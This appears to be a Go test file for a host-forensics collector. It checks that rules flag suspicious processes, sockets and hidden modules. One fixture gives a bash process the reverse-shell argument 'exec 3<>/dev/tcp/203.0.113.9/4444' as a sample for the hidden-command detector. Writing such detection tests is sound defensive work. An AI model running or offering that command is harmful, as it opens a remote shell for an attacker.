package finding_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"hozen/collector/internal/finding"
	"hozen/internal/artifact/record"
)

func rules(t testing.TB) []finding.Rule {
	t.Helper()
	all, err := finding.Rules()
	if err != nil {
		t.Fatal(err)
	}
	return all
}

func proc(pid int, exe string, change ...func(*record.Process)) record.Process {
	comm := exe[strings.LastIndexAny(exe, `/\`)+1:]
	p := record.Process{PID: pid, PPID: 1, StartTicks: uint64(pid * 100), BootID: "b", Comm: comm, Exe: exe, UID: 1000, EUID: 1000}
	for _, c := range change {
		c(&p)
	}
	return p
}

func sock(pid int, local string, port uint16, remote string) record.Socket {
	s := record.Socket{Family: record.FamilyInet, Proto: record.ProtoTCP, LocalAddr: local, LocalPort: port, State: "LISTEN",
		Owners: []record.Owner{{PID: pid, StartTicks: uint64(pid * 100)}}}
	if remote != "" {
		s.State, s.RemoteAddr, s.RemotePort = "ESTABLISHED", remote, 443
	}
	return s
}

// found lists "rule:what" for everything that was found, and the rules that could not be asked.
func found(t testing.TB, s finding.Scene) (list, idle []string) {
	t.Helper()
	r := finding.Look(rules(t), s)
	for _, g := range r.Groups {
		for _, f := range g.Findings {
			switch {
			case f.Process != nil:
				list = append(list, fmt.Sprintf("%s:%d", g.Rule.ID, f.Process.PID))
			case f.Socket != nil:
				list = append(list, fmt.Sprintf("%s:%d", g.Rule.ID, f.Socket.LocalPort))
			case f.Tool != nil:
				list = append(list, g.Rule.ID+":"+f.Tool.Name)
			default:
				list = append(list, g.Rule.ID+":"+f.Difference.Name)
			}
		}
	}
	for _, rule := range r.Idle {
		idle = append(idle, rule.ID)
	}
	return list, idle
}

// aboutTools are the rules that look at security tools.
var aboutTools = []string{"no_protection", "protection_stopped", "protection_switched_off", "protection_passive", "protection_exceptions", "protection_old", "protection_not_updated", "protection_scanner_off", "firewall_off"}

// Each rule is shown to apply to what it is for, and not to its neighbour.
func TestEachRule(t *testing.T) {
	memfd := func(p *record.Process) { p.ExeMemFD, p.ExeDeleted = true, true }
	deleted := func(p *record.Process) { p.ExeDeleted = true }
	childOf := func(pid int) func(*record.Process) { return func(p *record.Process) { p.PPID = pid } }
	args := func(a ...string) func(*record.Process) { return func(p *record.Process) { p.Args = a } }
	scene := finding.Scene{
		Processes: []record.Process{
			proc(10, "/memfd:x", memfd), proc(11, "/home/a/evil", deleted), proc(12, "/usr/sbin/sshd", deleted),
			proc(13, "/tmp/.x/run"), proc(14, "/tmpfile/run"), proc(15, `C:\Users\佐藤\AppData\Local\Temp\a.exe`), proc(16, `C:\Users\佐藤\AppData\Local\Programs\b.exe`),
			proc(20, `C:\Program Files\Office\WINWORD.EXE`), proc(21, `C:\Windows\System32\cmd.exe`, childOf(20)), proc(22, `C:\Windows\System32\cmd.exe`),
			proc(30, "/usr/sbin/nginx"), proc(31, "/usr/bin/dash", childOf(30)), proc(32, "/usr/sbin/nginx", childOf(30)),
			proc(40, "/usr/bin/bash", args("bash", "-c", "exec 3<>/dev/tcp/203.0.113.9/4444")), proc(41, "/usr/bin/bash", args("bash", "-l")),
			proc(50, "/usr/bin/gdbed", func(p *record.Process) { p.TracerPID = 9 }), proc(51, "/usr/bin/odd", func(p *record.Process) { p.EUID = 0 }),
			proc(52, "/usr/bin/sudo", func(p *record.Process) { p.EUID = 0 }), proc(60, "/usr/bin/curl"), proc(61, "/home/a/srv"),
			proc(70, "", func(p *record.Process) { p.KernelOnly, p.Comm = true, "kworker" }),
		},
		Sockets: []record.Socket{
			sock(13, "192.168.1.5", 50000, "203.0.113.9"), sock(60, "192.168.1.5", 50001, "192.168.1.1"),
			sock(61, "0.0.0.0", 8080, ""), sock(12, "::", 22, ""), sock(12, "127.0.0.1", 23, ""),
			{Family: record.FamilyPacket, Proto: record.ProtoPacket, LocalPort: 1, Owners: []record.Owner{{PID: 61, StartTicks: 6100}}},
		},
		Differences: []finding.Difference{{Finding: record.FindUnlisted, Name: "rk", PID: 99}, {Finding: record.FindOnlyText, Name: "fleeting"}, {Finding: record.FindOnlySys, Name: "mod"}},
	}
	got, idle := found(t, scene)
	want := []string{"memory_only:10", "deleted_elsewhere:11", "deleted_system:12", "temp_folder:13", "temp_folder:15", "temp_talks:13",
		"office_starts_shell:21", "server_starts_shell:31", "hidden_command:40", "hidden_process:rk", "hidden_other:mod", "traced:50", "sniffer:1",
		"outside_peer:50000", "listens_elsewhere:8080", "listens_to_everyone:8080", "listens_to_everyone:22", "raised:51"}
	slices.Sort(got)
	slices.Sort(want)
	if !slices.Equal(got, want) {
		t.Errorf("found\n %q, want\n %q", got, want)
	}
	if want := append([]string{"new_program_talks", "new_listener", "new_program", "gone_after", "new_since_before", "new_listener_before", "gone_elsewhere"}, aboutTools...); !slices.Equal(idle, want) {
		t.Errorf("not asked: %q", idle)
	}
}

func TestComparedWithEarlier(t *testing.T) {
	usual := finding.Scene{Processes: []record.Process{proc(900, "/usr/bin/mail"), proc(901, "/usr/sbin/sshd")}, Sockets: []record.Socket{sock(901, "0.0.0.0", 22, "")}}
	before := finding.Scene{
		Processes: []record.Process{proc(5, "/usr/bin/mail"), proc(6, "/home/a/beacon"), proc(7, "/home/a/quiet"), proc(11, "/usr/bin/ls")},
		Sockets:   []record.Socket{sock(6, "10.0.0.2", 40000, "198.51.100.7")},
	}
	now := finding.Scene{
		Processes: []record.Process{proc(5, "/usr/bin/mail"), proc(8, "/home/a/new"), proc(9, "/usr/sbin/sshd")},
		Sockets:   []record.Socket{sock(5, "10.0.0.2", 40001, "198.51.100.8"), sock(8, "10.0.0.2", 40002, "198.51.100.9"), sock(9, "0.0.0.0", 22, ""), sock(8, "0.0.0.0", 9000, "")},
		Before:    &before, Usual: &usual,
	}
	got, _ := found(t, now)
	for _, want := range []string{"gone_after:6", "new_program_talks:8", "new_program:8", "new_listener:9000", "new_since_before:8", "new_since_before:9", "new_listener_before:9000", "new_listener_before:22", "gone_elsewhere:6", "gone_elsewhere:7", "outside_peer:40001"} {
		if !slices.Contains(got, want) {
			t.Errorf("%s is not among %q", want, got)
		}
	}
	for _, not := range []string{"gone_after:5", "gone_after:7", "new_program:5", "new_program_talks:5", "new_program:9", "new_listener:22", "new_since_before:5", "gone_elsewhere:11", "gone_elsewhere:5", "outside_peer:22"} {
		if slices.Contains(got, not) {
			t.Errorf("%s was found", not)
		}
	}
}

// What was not acquired is not asked, which is something else than nothing found.
func TestNothingToLookAt(t *testing.T) {
	r := finding.Look(rules(t), finding.Scene{})
	if r.Asked != 0 || len(r.Groups) != 0 || len(r.Idle) != len(rules(t)) {
		t.Errorf("%d asked, %d idle of an empty scene", r.Asked, len(r.Idle))
	}
}

func TestManyAreCounted(t *testing.T) {
	var s finding.Scene
	for i := range finding.MaxPerRule + 7 {
		s.Processes = append(s.Processes, proc(i+1, "/tmp/x"))
	}
	for _, g := range finding.Look(rules(t), s).Groups {
		if g.Rule.ID == "temp_folder" && (len(g.Findings) != finding.MaxPerRule || g.More != 7) {
			t.Errorf("%d given and %d counted", len(g.Findings), g.More)
		}
	}
}

func TestRulesThatAreRefused(t *testing.T) {
	const words = "\nja.title=\"a\"\nja.means=\"a\"\nja.not=\"a\"\nja.next=\"a\"\nen.title=\"a\"\nen.means=\"a\"\nen.not=\"a\"\nen.next=\"a\"\n"
	for name, text := range map[string]string{
		"always":          "[[rule]]\nid=\"a\"\non=\"process\"\nweight=1" + words,
		"misspelt":        "[[rule]]\nid=\"a\"\non=\"process\"\nweight=1\nwhen.exe_memdf=true" + words,
		"no such thing":   "[[rule]]\nid=\"a\"\non=\"file\"\nweight=1\nwhen.exe_memfd=true" + words,
		"weight":          "[[rule]]\nid=\"a\"\non=\"process\"\nweight=4\nwhen.exe_memfd=true" + words,
		"other subject":   "[[rule]]\nid=\"a\"\non=\"process\"\nweight=1\nwhen.listens=true" + words,
		"silent":          "[[rule]]\nid=\"a\"\non=\"process\"\nweight=1\nwhen.exe_memfd=true\nja.title=\"a\"",
		"twice":           strings.Repeat("[[rule]]\nid=\"a\"\non=\"process\"\nweight=1\nwhen.exe_memfd=true"+words, 2),
		"unknown finding": "[[rule]]\nid=\"a\"\non=\"difference\"\nweight=1\nwhen.finding=[\"x\"]" + words,
	} {
		if _, err := finding.Parse([]byte(text)); err == nil {
			t.Errorf("%s: taken", name)
		}
	}
}

// A PC in the hands of an attacker writes the records: nothing in them may break the looking.
func TestAnyRecords(t *testing.T) {
	all := rules(t)
	text := rapid.OneOf(rapid.String(), rapid.SampledFrom([]string{"/tmp/x", "//", `C:\`, "\x00", "/dev/shm", "cmd.exe", "::", "0.0.0.0", "203.0.113.1", "fe80::1%eth0"}))
	rapid.Check(t, func(t *rapid.T) {
		draw := func(label string) finding.Scene {
			var s finding.Scene
			for range rapid.IntRange(0, 6).Draw(t, label) {
				pid := rapid.IntRange(-1, 4).Draw(t, "pid")
				s.Processes = append(s.Processes, record.Process{PID: pid, PPID: rapid.IntRange(-1, 4).Draw(t, "ppid"), Exe: text.Draw(t, "exe"), Comm: text.Draw(t, "comm"),
					Args: []string{text.Draw(t, "arg")}, ExeDeleted: rapid.Bool().Draw(t, "deleted")})
				s.Sockets = append(s.Sockets, record.Socket{LocalAddr: text.Draw(t, "local"), RemoteAddr: text.Draw(t, "remote"), LocalPort: 1, Owners: []record.Owner{{PID: pid}}})
			}
			return s
		}
		s, before, usual := draw("now"), draw("before"), draw("usual")
		s.Before, s.Usual = &before, &usual
		r := finding.Look(all, s)
		if r.Asked+len(r.Idle) != len(all) {
			t.Fatalf("%d asked, %d not, of %d", r.Asked, len(r.Idle), len(all))
		}
		for _, g := range r.Groups {
			if len(g.Findings) == 0 || len(g.Findings) > finding.MaxPerRule {
				t.Fatalf("%s gives %d findings", g.Rule.ID, len(g.Findings))
			}
		}
	})
}
